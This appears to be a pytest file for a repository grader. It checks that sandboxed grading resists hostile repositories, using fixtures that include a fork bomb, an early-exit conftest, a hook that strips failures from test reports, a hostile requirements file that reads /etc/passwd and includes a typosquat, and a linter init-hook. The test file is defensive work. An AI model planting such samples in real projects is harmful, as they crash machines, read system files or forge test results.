"""Whole gradings of hostile repositories: what reading found stands, nothing becomes `not_met` for what we could not see, and the grid says it."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path
from textwrap import dedent
from typing import Any

import pytest

from checks.registry import CHECKS, FACTS
from grader.contract import as_document
from grader.engine import Engine
from grader.pipeline import Order
from grader.render.page import render
from grader.rubric import load_rubric
from tests.conftest import commit
from tests.grading import grade_in
from tests.running.arena import Arena
from tests.running.test_servers import raw
from tests.running.watch import groups_of

pytestmark = [pytest.mark.slow, pytest.mark.timeout(500)]

HONEST = {
    "README.md": "# Hives\n\n```sh\npip install -r requirements.txt\npytest\n```\n",
    "requirements.txt": "fastapi\nuvicorn\n",
    "api/main.py": "from fastapi import FastAPI\n\napp = FastAPI()\n\n\n@app.get('/hives')\ndef hives():\n    return []\n",
    "db/schema.sql": "CREATE TABLE hive (id INTEGER PRIMARY KEY, name TEXT);\n",
    "tests/test_hives.py": "def test_one():\n    assert 1 + 1 == 2\n\n\ndef test_two():\n    assert 'a' in 'abc'\n",
}
Grid = dict[str, Any]


@dataclass(frozen=True)
class Whole:
    """Files over the honest ones, what the step of a kind must say, and what acts on the grading."""

    files: dict[str, str]
    kind: str
    reasons: tuple[str | None, ...]
    told: tuple[str, ...] = ()
    then: Callable[[Grid], None] = field(default=lambda _grid: None)


def left_out(grid: Grid) -> None:
    assert {("--index-url", "option"), ("git+https", "url"), ("-r", "outside"), ("./evil", "local-path")} <= {
        (p["text"].split(":")[0].split(" ")[0], p["reason"]) for p in grid["run"]["left_out"]
    }


BAD = "def test_bad():\n    assert 1 == 2\n"
BOMB = "import os\n\n\ndef test_one():\n    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass\n"
# It looks for the file that our recorder writes to, takes its failures away, and leaves as if all were well.
FORGED = """
    import glob, os, pathlib

    def pytest_unconfigure():
        for path in glob.glob("/tmp/**/*-lines", recursive=True):
            kept = [line for line in open(path) if '"failed"' not in line]
            pathlib.Path(path).write_text("".join(kept))
        os._exit(0)
    """
WHOLE = {
    "a fork bomb": Whole(
        {"tests/test_hives.py": BOMB}, "tests", ("timeout", "out-of-time", "killed", "runner-killed", "out-of-memory", None)
    ),
    "leaving at once": Whole({"conftest.py": "import os\n\nos._exit(0)\n"}, "tests", ("no-report",), ("ends the process",)),
    "a forged report": Whole(
        {"conftest.py": FORGED, "tests/test_hives.py": BAD}, "tests", ("contradictory", "no-report"), ("ends the process",)
    ),
    "an endless server": Whole(
        {"api/main.py": str(raw("while True: connection.sendall(HEAD + b'a' * 65536)").files["api/main.py"])}, "serve", (None,)
    ),
    "hostile requirements": Whole(
        {
            "requirements.txt": "--index-url http://127.0.0.1:@PORT@/\n-r /etc/passwd\ngit+https://127.0.0.1:@PORT@/x\n./evil\nfastapi\nuvicorn\nflsak\n",
            "setup.py": "open('@SENTINEL@/written', 'w').write('x')\n",
        },
        "tests",
        (None,),
        ("one letter away from flask",),
        left_out,
    ),
    "an rc file with a hook": Whole(
        {
            ".pylintrc": "[MAIN]\ninit-hook=open('@SENTINEL@/written', 'w').write('x')\nload-plugins=evil\n",
            "evil.py": "import os\nos._exit(0)\n",
            ".bandit": "[bandit]\nexclude = .\n",
            "ruff.toml": "exclude = ['*']\n",
        },
        "tests",
        (None,),
        ("linter",),
    ),
}


def graded(arena: Arena, files: dict[str, str], folder: Path, *, run: bool) -> Grid:
    """Grade these files and return the grid as the contract has it."""
    texts = {p: str(arena.filled(dedent(t) if t.startswith("\n") else t, "mark-of-a-grade")) for p, t in files.items()}
    repository = commit(folder, dict(texts))
    work = folder.parent / "work"
    work.mkdir(exist_ok=True)
    settings = replace(arena.settings, run_seconds=75, work_folder=work)
    grid = grade_in(Order(str(repository), load_rubric("rncp37827"), settings), sandbox=arena.name, run=run)
    assert list(work.iterdir()) == []
    assert render(grid, "en", {c.id: c for c in CHECKS}).count("<script>alert") == 0
    return as_document(grid)


def of_reading(grid: Grid) -> dict[str, Any]:
    """Return what the checks that only read have found; a tool of ours that was late on a busy machine says so, and is not compared."""
    found = {f["check"]: f for c in grid["criteria"] for f in c["findings"] if f["reason"] != "took-too-long"}
    engine = Engine(FACTS, {})
    reading = {c.id for c in CHECKS if not engine.depends(c, "ran_archive")}
    return {n: (f["outcome"], f["evidence"]) for n, f in found.items() if n in reading}


@pytest.mark.parametrize("name", WHOLE)
def test_the_grid_of_a_hostile_repository(arena: Arena, name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("grader.running.PROBE_SECONDS", 14.0)
    case = WHOLE[name]
    files = {**HONEST, **case.files}
    grid = graded(arena, files, tmp_path / "repository", run=True)
    read = graded(arena, files, tmp_path / "repository", run=False)
    now, then = of_reading(grid), of_reading(read)
    assert len(now) > 50
    assert {n: now[n] for n in now.keys() & then} == {n: then[n] for n in now.keys() & then}
    lost = {c["id"] for c in grid["criteria"] if c["proposal"] == "not_met"} - {
        c["id"] for c in read["criteria"] if c["proposal"] == "not_met"
    }
    assert lost == set()
    steps = [s for s in grid["run"]["steps"] if s["kind"] == case.kind]
    assert steps
    assert all(s["reason"] in case.reasons for s in steps), steps
    if name == "a fork bomb":  # where the suite came to its end, the bomb has cost itself: it is told, and not as a success
        assert all(s["reason"] or s["failures"] for s in steps), steps
    assert [s["counts"]["tables"] for s in grid["run"]["steps"] if s["kind"] == "migrate"] == [1]
    whats = [i["what"]["en"] for i in grid.get("influences", [])]
    assert all(any(piece in what for what in whats) for piece in case.told), whats
    assert arena.token not in json.dumps(grid)
    assert sorted(p.name for p in arena.sentinel.iterdir()) == ["secret.txt"]
    assert arena.listener.heard == []
    assert groups_of(os.getpid()) == []
    case.then(grid)


def test_an_honest_repository_gains_by_running(arena: Arena, tmp_path: Path) -> None:
    grid = graded(arena, HONEST, tmp_path / "repository", run=True)
    found = {f["check"]: f["outcome"] for c in grid["criteria"] for f in c["findings"]}
    assert (found["run-tests.succeed"], found["run-service.starts"]) == ("met", "met")
    assert "influences" not in grid
